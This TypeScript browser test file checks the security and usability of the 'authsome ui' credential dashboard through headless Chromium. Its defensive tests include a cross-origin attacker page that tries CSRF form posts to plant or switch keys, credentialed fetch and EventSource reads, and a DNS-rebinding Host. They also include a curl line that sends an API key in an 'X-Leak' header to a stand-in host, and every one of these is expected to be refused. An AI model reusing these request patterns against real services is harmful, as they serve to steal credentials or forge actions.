/**
 * The dashboard in real headless Chromium (playwright-core + Debian's chromium), against the
 * installed CLI's `authsome ui`: log in an API key through the page and see it listed, switch
 * the default, explain a URL, watch an `authsome run`'s injected and blocked requests appear
 * live (injected, blocked by --deny-unmatched, stopped by a tripwire), revoke with confirmation,
 * create a profile and remove it after a confirmation (by keyboard); a cross-origin page's fetch, no-cors post, form post and
 * EventSource and a DNS-rebinding Host all fail; no secret in any page or response. Screenshots
 * of the main views go to test-output/screenshots/ (gitignored) for a person to look at.
 */
import assert from "node:assert/strict";
import { type ChildProcess, spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { cliCommand, runCli } from "../helpers/cli.ts";
import { type HomeWithUpstream, startHomeWithUpstream } from "../helpers/cli-upstream.ts";
import { repoRoot } from "../helpers/spawn-runtime.ts";

const KEY_PERSONAL = "acme-ui-personal-key-0001";
const KEY_WORK = "acme-ui-work-key-0002";
const KEY_PLANTED = "acme-ui-planted-key-0003";
const KEY_SCRATCH = "acme-ui-scratch-key-0005";
const SHOTS = join(repoRoot, "test-output/screenshots");
const CHROMIUM = "/usr/bin/chromium";
// CI installs Debian's chromium (.ci/run); elsewhere say why nothing ran rather than fail on setup.
const skip = existsSync(CHROMIUM) ? false : `no ${CHROMIUM}: install Debian's chromium package to run the dashboard's browser tests`;
if (skip !== false) console.log(`# skipped: ${skip}`);
let setup: HomeWithUpstream;
let ui: ChildProcess;
let uiUrl: string;
let link: string;
let attacker: Server;
let attackerPort: number;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const bodies: Promise<{ url: string; text: string }>[] = [];

/** Starts `authsome ui --no-browser --json` and reads its one-time link from stdout (bounded). */
async function startUi(env: Record<string, string>): Promise<{ child: ChildProcess; link: string }> {
  const { command, args } = cliCommand();
  const child = spawn(command, [...args, "ui", "--no-browser", "--json"], { env: { ...process.env, ...env, NO_COLOR: "1" }, stdio: ["ignore", "pipe", "pipe"] });
  let out = "";
  let err = "";
  child.stderr?.on("data", (d) => (err += d));
  const found = await new Promise<string>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`authsome ui printed no link within 30 s: ${err}`)), 30_000);
    child.stdout?.on("data", (d) => {
      out += d;
      const url = /"url": "([^"]+)"/.exec(out)?.[1];
      if (url !== undefined) {
        clearTimeout(timer);
        resolve(url);
      }
    });
    child.on("exit", (code) => reject(new Error(`authsome ui exited (${code}): ${err}`)));
  });
  return { child, link: found };
}

/** Waits for a child to exit (bounded). */
function exited(child: ChildProcess, ms = 20_000): Promise<number | null> {
  if (child.exitCode !== null) return Promise.resolve(child.exitCode);
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`process ${child.pid} did not exit within ${ms} ms`)), ms);
    child.on("exit", (code) => (clearTimeout(timer), resolve(code)));
  });
}

const shot = (name: string) => page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });

before(async () => {
  if (skip !== false) return;
  await mkdir(SHOTS, { recursive: true });
  setup = await startHomeWithUpstream(["api", "blocked", "other"]);
  const plugin = join(setup.home.home, "acme.json");
  await writeFile(plugin, JSON.stringify({ name: "acme", displayName: "Acme", authType: "api_key", inject: [{ host: "api.example.test" }], env: { ACME_API_KEY: "api_key" } }));
  // A second provider, connected, whose host the run intercepts: acme's placeholder sent there trips the tripwire.
  const beta = join(setup.home.home, "beta.json");
  await writeFile(beta, JSON.stringify({ name: "beta", authType: "api_key", inject: [{ host: "other.example.test" }] }));
  for (const args of [["providers", "add", plugin], ["providers", "add", beta]]) {
    const added = await runCli(args, { env: setup.env });
    assert.equal(added.code, 0, added.stderr);
  }
  ({ child: ui, link } = await startUi(setup.env));
  uiUrl = new URL(link).origin;
  attacker = createServer((_req, res) => res.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>attacker</title><p>a page on another origin</p>"));
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerPort = (attacker.address() as { port: number }).port;
  // attacker.test and rebind.test resolve to 127.0.0.1, as a DNS-rebinding name would.
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebind.test 127.0.0.1"] });
  context = await browser.newContext({ viewport: { width: 1000, height: 800 }, locale: "en-GB", timezoneId: "Europe/Berlin" });
  context.setDefaultTimeout(15_000);
  context.on("response", (response) => {
    if ((response.headers()["content-type"] ?? "").includes("event-stream")) return;
    bodies.push(response.text().then((text) => ({ url: response.url(), text }), () => ({ url: response.url(), text: "" })));
  });
  page = await context.newPage();
});

after(async () => {
  await browser?.close();
  if (ui !== undefined && ui.exitCode === null) {
    ui.kill("SIGINT");
    await exited(ui).catch(() => ui.kill("SIGKILL"));
  }
  await new Promise<void>((resolve) => (attacker === undefined ? resolve() : attacker.close(() => resolve())));
  await setup?.upstream.close();
  await setup?.home.cleanup();
});

test("the one-time link signs in, then works no more; the empty state says what to do", { skip }, async () => {
  const first = await page.goto(link);
  assert.equal(first?.status(), 200);
  assert.equal(page.url(), `${uiUrl}/ui/`, "redirected to a clean URL");
  await page.locator("#no-connections").waitFor();
  await shot("01-empty");
  const cookies = await context.cookies(`${uiUrl}/ui/`);
  assert.ok(cookies.some((c) => c.httpOnly && c.sameSite === "Strict" && c.name.startsWith("authsome_ui_")));
  const other = await context.newPage();
  assert.equal((await other.goto(link))?.status(), 403, "the link is spent");
  await other.close();
});

test("log in an API key through the page and see it listed; switch the default", { skip }, async () => {
  for (const [name, key] of [["personal", KEY_PERSONAL], ["work", KEY_WORK]] as const) {
    await page.locator("#key-provider").selectOption("acme");
    await page.getByLabel("Connection name").first().fill(name);
    await page.getByLabel("API key").fill(key);
    await page.getByRole("button", { name: "Save key" }).click();
    await page.locator(".flash.ok", { hasText: `as connection "${name}"` }).waitFor();
  }
  const rows = page.locator("#p-acme ~ form tbody tr");
  assert.equal(await rows.count(), 2);
  assert.match(await rows.nth(0).innerText(), /personal\s+default/);
  await page.getByRole("radio", { name: "default: work" }).check();
  await page.getByRole("button", { name: "Make the selected connection Acme's default" }).click();
  await page.locator(".flash.ok", { hasText: 'default connection is now "work"' }).waitFor();
  assert.match(await page.locator("tr", { hasText: "work" }).innerText(), /work\s+default/);
  await shot("02-connections");
  const got = await runCli(["get", "acme", "--json"], { env: setup.env });
  assert.equal((JSON.parse(got.stdout) as { connection: string }).connection, "work", "the CLI sees the page's change");
});

test("explain a URL from the explain box (keyboard only)", { skip }, async () => {
  await page.getByLabel("URL", { exact: true }).focus();
  await page.keyboard.type(`${setup.base}/v1/models`);
  await page.keyboard.press("Enter");
  const result = page.locator("#explain-result");
  await result.waitFor();
  assert.match(await result.innerText(), /Acme connection "work" would be injected as header Authorization: Bearer <api key>/);
  await shot("03-explain");
});

test("an authsome run's hosts, injected and blocked requests appear live", { skip }, async () => {
  const betaLogin = await runCli(["login", "beta"], { env: setup.env, input: "beta-ui-key-0004-abcdef" });
  assert.equal(betaLogin.code, 0, betaLogin.stderr);
  await page.getByRole("link", { name: "Running agents" }).click();
  await page.locator("#no-runs").waitFor();
  const { command, args } = cliCommand();
  const blocked = setup.base.replace("api.example.test", "blocked.example.test");
  const other = setup.base.replace("api.example.test", "other.example.test");
  // Injected, blocked by the allowlist, stopped by the tripwire (acme's placeholder bound for beta's host), then held open.
  const script = `curl -sS --fail -o /dev/null "${setup.base}/v1/models" && (curl -sS -o /dev/null "${blocked}/x" || true) && (curl -sS -o /dev/null -H "X-Leak: $ACME_API_KEY" "${other}/leak" || true) && (read _hold || true)`;
  const run = spawn(command, [...args, "run", "--deny-unmatched", "--", "sh", "-c", script], { env: { ...process.env, ...setup.env, NO_COLOR: "1" }, stdio: ["pipe", "ignore", "pipe"] });
  let err = "";
  run.stderr?.on("data", (d) => (err += d));
  try {
    await page.waitForFunction(() => document.querySelector("#runs td.injected")?.textContent === "1" && document.querySelector("#runs td.blocked")?.textContent?.startsWith("1") === true && document.querySelector("#runs td.tripped")?.textContent === "1", undefined, { timeout: 30_000 }).catch((error: unknown) => {
      throw new Error(`the live view did not show the run: ${String(error)}; run stderr: ${err}`);
    });
    const row = await page.locator("#runs tbody tr").first().innerText();
    assert.match(row, /\bsh\b/);
    assert.match(row, /running/);
    assert.match(row, /api\.example\.test:\d+/);
    assert.match(row, /blocked\.example\.test:\d+ blocked/);
    assert.match(row, /deny mode/);
    const feed = await page.locator("#run-events").innerText();
    assert.match(feed, /injected GET api\.example\.test via acme\/work \(200\)/);
    assert.match(feed, /blocked blocked\.example\.test \(403\)/);
    assert.match(feed, /tripped GET other\.example\.test via acme \(403\)/);
    await shot("04-runs-live");
  } finally {
    run.stdin?.end();
  }
  assert.equal(await exited(run), 0, err);
  await page.locator("#runs td", { hasText: "ended" }).waitFor();
  assert.equal(setup.upstream.requests.filter((r) => r.headers.authorization === `Bearer ${KEY_WORK}`).length, 1, "the upstream got the key");
  assert.equal(setup.upstream.requests.filter((r) => r.url === "/leak").length, 0, "the tripped request never left");
});

test("a page on another origin can neither read nor change anything; a rebinding Host is refused", { skip }, async () => {
  const evil = await context.newPage();
  await evil.goto(`http://attacker.test:${attackerPort}/`);
  const read = await evil.evaluate(async (target) => {
    try {
      const r = await fetch(`${target}/ui/`, { credentials: "include" });
      return `read ${r.status}`;
    } catch {
      return "blocked";
    }
  }, uiUrl);
  assert.equal(read, "blocked");
  const stream = await evil.evaluate((target) => new Promise<string>((resolve) => {
    const es = new EventSource(`${target}/ui/events`, { withCredentials: true });
    const timer = setTimeout(() => (es.close(), resolve("timeout")), 5000);
    es.onmessage = () => (clearTimeout(timer), es.close(), resolve("message"));
    es.onerror = () => (clearTimeout(timer), es.close(), resolve("error"));
  }), uiUrl);
  assert.equal(stream, "error");
  await evil.evaluate(async (target) => {
    await fetch(`${target}/ui/action/default`, { method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({ provider: "acme", connection: "personal" }) }).catch(() => {});
  }, uiUrl);
  await evil.evaluate(({ target, key }) => {
    const form = document.createElement("form");
    form.method = "post";
    form.action = `${target}/ui/action/login`;
    for (const [name, value] of Object.entries({ provider: "acme", connection: "planted", api_key: key, force: "1" })) {
      const input = document.createElement("input");
      input.name = name;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  }, { target: uiUrl, key: KEY_PLANTED });
  await evil.waitForURL(`${uiUrl}/ui/action/login`);
  assert.match(await evil.innerText("body"), /Sign in first|Refused|origin_refused/);
  // The same site (127.0.0.1, another port) gets the cookie with its post: the Origin check stops it.
  await evil.goto(`http://127.0.0.1:${attackerPort}/`);
  await evil.evaluate((target) => {
    const form = document.createElement("form");
    form.method = "post";
    form.action = `${target}/ui/action/default`;
    for (const [name, value] of Object.entries({ provider: "acme", connection: "personal" })) {
      const input = document.createElement("input");
      input.name = name;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  }, uiUrl);
  await evil.waitForURL(`${uiUrl}/ui/action/default`);
  assert.match(await evil.innerText("body"), /origin_refused|may not change anything/);
  const rebound = await evil.goto(`http://rebind.test:${new URL(uiUrl).port}/ui/`);
  assert.equal(rebound?.status(), 421);
  await evil.close();
  const listed = await runCli(["list", "--json"], { env: setup.env });
  const acme = (JSON.parse(listed.stdout) as { providers: { name: string; default_connection: string | null; connections: { connection: string }[] }[] }).providers.find((p) => p.name === "acme");
  assert.equal(acme?.default_connection, "work", "the default is unchanged");
  assert.deepEqual(acme?.connections.map((c) => c.connection).sort(), ["personal", "work"], "nothing was planted");
});

test("revoke with confirmation", { skip }, async () => {
  await page.getByRole("link", { name: "Connections" }).click();
  await page.locator("tr", { hasText: "personal" }).getByRole("link", { name: "Remove…" }).click();
  await page.locator("h1", { hasText: "Remove Acme connection “personal”?" }).waitFor();
  await shot("05-confirm");
  await page.getByRole("button", { name: "Revoke “personal”" }).click();
  await page.locator(".flash.ok", { hasText: 'connection "personal" revoked and removed' }).waitFor();
  assert.equal(await page.locator("tr", { hasText: "personal" }).count(), 0);
});

test("create a profile, then remove it (and its connection) after a confirmation, by keyboard", { skip }, async () => {
  await page.getByRole("link", { name: "Profiles & plugins" }).click();
  await page.getByLabel("New profile").fill("scratch");
  await page.getByRole("button", { name: "Create profile" }).click();
  await page.locator(".flash.ok", { hasText: 'Profile "scratch" created' }).waitFor();
  const login = await runCli(["login", "acme", "--profile", "scratch"], { env: setup.env, input: KEY_SCRATCH });
  assert.equal(login.code, 0, login.stderr);
  assert.equal(await page.getByRole("link", { name: "Remove profile default…" }).count(), 0, "the default profile is not offered");
  await page.getByRole("link", { name: "Remove profile scratch…" }).click();
  await page.locator("h1", { hasText: "Remove profile “scratch”?" }).waitFor();
  assert.match(await page.locator("main").innerText(), /still holds 1 connection \(Acme\)/);
  await shot("10-confirm-profile");
  const remove = page.getByRole("button", { name: "Remove profile “scratch”" });
  await remove.click();
  assert.match(page.url(), /\/ui\/confirm-profile\?/, "unticked, the browser keeps the form: the connections are deleted only when asked");
  assert.equal(await page.locator("input[name=force]:invalid").count(), 1);
  await page.getByLabel("Delete its 1 connection too").focus();
  await page.keyboard.press("Space");
  await remove.focus();
  await page.keyboard.press("Enter");
  await page.locator(".flash.ok", { hasText: 'Removed profile "scratch".' }).waitFor();
  assert.equal(await page.locator("main table a", { hasText: "scratch" }).count(), 0);
  const listed = await runCli(["profile", "list", "--json"], { env: setup.env });
  assert.deepEqual((JSON.parse(listed.stdout) as { profiles: { name: string }[] }).profiles.map((p) => p.name), ["default"], "the CLI sees it gone");
  const audit = await runCli(["audit", "--json"], { env: setup.env });
  assert.match(audit.stdout, /"action": ?"profile_remove"/, "audited as the CLI's removal is");
});

test("audit, settings, dark and narrow layouts render; no secret in any page or response", { skip }, async () => {
  await page.getByRole("link", { name: "Audit log" }).click();
  await page.locator("#audit-verify.ok").waitFor();
  const time = page.locator("main table time").first();
  // The page is rendered with ISO times, which app.js rewrites once it runs (the verify line
  // above is the server's): wait, bounded, for that rewrite instead of reading before it.
  await page.waitForFunction(() => {
    const t = document.querySelector("main table time");
    return t !== null && t.textContent !== t.getAttribute("datetime");
  }, undefined, { timeout: 5000 }).catch(() => {});
  assert.notEqual(await time.innerText(), await time.getAttribute("datetime"), "times are shown in the browser's locale");
  await shot("06-audit");
  await page.getByRole("link", { name: "Profiles & plugins" }).click();
  await shot("07-settings");
  await page.getByRole("link", { name: "Connections" }).click();
  await page.emulateMedia({ colorScheme: "dark" });
  const dark = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.notEqual(dark, "rgb(255, 255, 255)", "dark mode has its own background");
  await shot("08-connections-dark");
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 400, height: 900 });
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 0, `no horizontal scrolling at 400 px (${overflow} px too wide)`);
  await shot("09-connections-narrow");
  // Wide tables scroll inside their own box, never the whole page.
  for (const path of ["/ui/runs", "/ui/audit", "/ui/settings", "/ui/provider?provider=acme"]) {
    await page.goto(`${uiUrl}${path}`);
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(wide <= 0, `${path}: no horizontal scrolling at 400 px (${wide} px too wide)`);
  }
  await page.setViewportSize({ width: 1000, height: 800 });
  // The keyboard's first stop is the skip link, and it leads to the content.
  await page.goto(`${uiUrl}/ui/`);
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement?.textContent), "Skip to content");
  await page.keyboard.press("Enter");
  assert.match(page.url(), /#main$/);
  const seen = await Promise.all(bodies);
  assert.ok(seen.length > 10, `responses recorded: ${seen.length}`);
  for (const { url, text } of seen) {
    for (const key of [KEY_PERSONAL, KEY_WORK, KEY_PLANTED, KEY_SCRATCH]) assert.ok(!text.includes(key), `${url} holds no secret`);
  }
  assert.ok(!(await page.content()).includes(KEY_WORK));
});
